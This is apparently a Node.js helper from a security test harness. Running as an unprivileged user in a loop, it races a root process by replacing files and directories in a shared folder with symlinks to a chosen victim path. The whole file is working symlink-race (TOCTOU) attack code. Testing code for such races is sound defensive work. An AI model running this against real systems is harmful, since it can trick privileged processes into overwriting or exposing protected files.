// Runs as an untrusted user, in a folder of its own: replaces what root makes there by symlinks to a victim.
// Arguments: uid, the way, the folder, the victim. Prints `ready`, and goes on until it is killed.
import {
  chmodSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  renameSync,
  rmdirSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { dirname, join } from 'node:path';

const [uid, way, folder, victim] = process.argv.slice(2);
process.setgroups([]);
process.setgid(Number(uid));
process.setuid(Number(uid));

const aside = join(folder, '.aside');
const target = join(folder, 'target');

function attempt(deed) {
  try {
    deed();
  } catch {
    // Root was faster, or the kernel does not allow it.
  }
}

function pause(milliseconds) {
  Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, milliseconds);
}

/** Puts a symlink in the place of a file or directory, whoever made that. */
function replace(path) {
  const found = lstatSync(path);
  if (found.isSymbolicLink()) return;
  attempt(() => (found.isDirectory() ? rmdirSync(path) : rmSync(path)));
  attempt(() => renameSync(path, aside));
  symlinkSync(found.isDirectory() ? dirname(victim) : victim, path);
}

const ways = {
  // Whatever is new in the folder becomes a symlink to the victim, or to its folder.
  'new names'() {
    for (const name of readdirSync(folder)) {
      if (name === '.aside') attempt(() => rmSync(aside, { recursive: true }));
      else if (name !== 'target') attempt(() => replace(join(folder, name)));
    }
  },
  // The target is a file at one moment, and a symlink to the victim at the next.
  target() {
    attempt(() => writeFileSync(aside, 'mine\n'));
    attempt(() => renameSync(aside, target));
    attempt(() => symlinkSync(victim, aside));
    attempt(() => renameSync(aside, target));
  },
  // The target is a directory at one moment, and a symlink to the folder of the victim at the next.
  folder() {
    attempt(() => rmSync(target, { recursive: true }));
    attempt(() => mkdirSync(target));
    attempt(() => writeFileSync(join(target, 'victim.conf'), 'mine\n'));
    attempt(() => chmodSync(target, 0o777));
    attempt(() => rmSync(aside, { recursive: true }));
    attempt(() => renameSync(target, aside));
    attempt(() => symlinkSync(dirname(victim), target));
    // As long a moment as the directory has.
    for (let i = 0; i < 30; i += 1) lstatSync(dirname(folder));
  },
  // The target and another object of root's change their names.
  swap() {
    attempt(() => renameSync(target, aside));
    attempt(() => renameSync(`${target}.other`, target));
    pause(Math.random() * 200);
    attempt(() => renameSync(target, `${target}.other`));
    attempt(() => renameSync(aside, target));
    pause(Math.random() * 200);
  },
};

process.stdout.write('ready\n');
for (;;) ways[way]();
